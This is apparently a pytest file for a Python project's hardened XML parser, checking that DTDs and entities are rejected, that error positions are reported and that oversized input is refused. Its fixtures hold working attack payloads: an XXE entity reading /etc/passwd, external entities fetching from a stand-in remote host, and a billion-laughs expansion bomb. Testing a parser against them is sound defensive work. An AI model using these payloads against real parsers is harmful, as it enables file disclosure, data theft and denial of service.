"""The safe XML parse every reader uses: no entities, no DTDs, no network, bounded size."""

from __future__ import annotations

import pytest

from intygscheck.errors import InputError
from intygscheck.ingest import limits, read
from intygscheck.ingest.xml_safety import parse_xml

XXE_FILE = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE intyg [
  <!ENTITY xxe SYSTEM "file:///etc/passwd">
]>
<intyg>&xxe;</intyg>
"""

XXE_HTTP = b"""<?xml version="1.0"?>
<!DOCTYPE intyg [<!ENTITY remote SYSTEM "http://example.invalid/secret.txt">]>
<intyg>&remote;</intyg>
"""

XXE_PARAMETER = b"""<?xml version="1.0"?>
<!DOCTYPE intyg [<!ENTITY % dtd SYSTEM "http://example.invalid/evil.dtd"> %dtd;]>
<intyg/>
"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz a="&lol9;">&lol9;</lolz>
"""


@pytest.mark.parametrize(
    ("document", "line"),
    [(XXE_FILE, 2), (XXE_HTTP, 2), (XXE_PARAMETER, 2), (BILLION_LAUGHS, 2)],
    ids=["xxe-file", "xxe-http", "xxe-parameter-entity", "billion-laughs"],
)
def test_documents_with_entity_declarations_are_rejected(document: bytes, line: int) -> None:
    with pytest.raises(InputError) as caught:
        parse_xml(document, "evil.xml")
    error = caught.value
    assert "DOCTYPE" in error.reason
    assert error.source == "evil.xml"
    assert error.position.line == line
    assert "root:" not in str(error)  # nothing of /etc/passwd leaks into the message


def test_doctype_hidden_by_utf16_encoding_is_still_rejected() -> None:
    document = '<?xml version="1.0" encoding="UTF-16"?>\n<!DOCTYPE a [<!ENTITY x "y">]>\n<a>&x;</a>'
    with pytest.raises(InputError, match="DOCTYPE"):
        parse_xml(document.encode("utf-16"), "utf16.xml")


def test_plain_doctype_without_entities_is_rejected() -> None:
    with pytest.raises(InputError, match="DOCTYPE"):
        parse_xml(b'<!DOCTYPE intyg SYSTEM "intyg.dtd">\n<intyg/>', "dtd.xml")


def test_read_rejects_xxe_through_format_detection() -> None:
    with pytest.raises(InputError, match="DOCTYPE"):
        read(XXE_FILE, name="xxe.xml")


def test_truncated_xml_reports_line_and_column() -> None:
    document = b'<?xml version="1.0"?>\n<intyg>\n  <svar id="1">\n    <delsvar id="1.1">Text</del'
    with pytest.raises(InputError) as caught:
        parse_xml(document, "cut.xml")
    error = caught.value
    assert error.position.line == 4
    assert error.position.column is not None and error.position.column > 1
    assert str(error).startswith("cut.xml:4:")
    assert ", line" not in error.reason  # libxml2's own position suffix is not repeated


def test_empty_input_is_an_input_error() -> None:
    with pytest.raises(InputError, match="invalid XML"):
        parse_xml(b"", "empty.xml")


def test_undefined_entity_is_a_syntax_error_with_position() -> None:
    with pytest.raises(InputError) as caught:
        parse_xml(b"<a>\n&nbsp;</a>", "entity.xml")
    assert caught.value.position.line == 2


def test_oversized_input_is_refused_before_parsing(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("intygscheck.ingest.xml_safety.MAX_INPUT_BYTES", 64)
    document = b"<a>" + b"x" * 100 + b"</a>"
    assert len(document) > 64 and len(document) < limits.MAX_INPUT_BYTES
    with pytest.raises(InputError, match="over the limit"):
        parse_xml(document, "big.xml")


def test_comments_are_dropped_and_text_kept() -> None:
    root = parse_xml(b"<a><!-- note --><b>  text  </b></a>", "ok.xml")
    assert [child.tag for child in root] == ["b"]
    assert root[0].text == "  text  "


def test_billion_laughs_hidden_by_utf16_encoding_is_rejected() -> None:
    document = BILLION_LAUGHS.replace(b'<?xml version="1.0"?>', b'<?xml version="1.0" encoding="UTF-16"?>')
    with pytest.raises(InputError):
        parse_xml(document.decode().encode("utf-16"), "lolz16.xml")
